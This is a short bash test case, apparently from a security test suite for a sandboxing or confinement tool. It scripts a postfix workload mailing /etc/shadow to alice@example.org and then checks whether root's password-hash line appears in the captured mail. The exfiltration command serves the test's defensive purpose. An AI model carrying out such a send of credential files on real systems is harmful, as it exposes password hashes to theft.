#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
# A file of the system goes out as a letter.
# workload: postfix
# orders: orders
# program: /usr/bin/curl
# deed: file_open
# object: /etc/shadow

# shellcheck source=tests/attacks/lib.sh
. "${0%/*}/lib.sh"
orders() { echo 'send /etc/shadow alice@example.org; wait_for grep -rqs "^root:" run/mail; grep -rh ^root: run/mail'; }
proof() { printed "$secret"; }
main "$@"
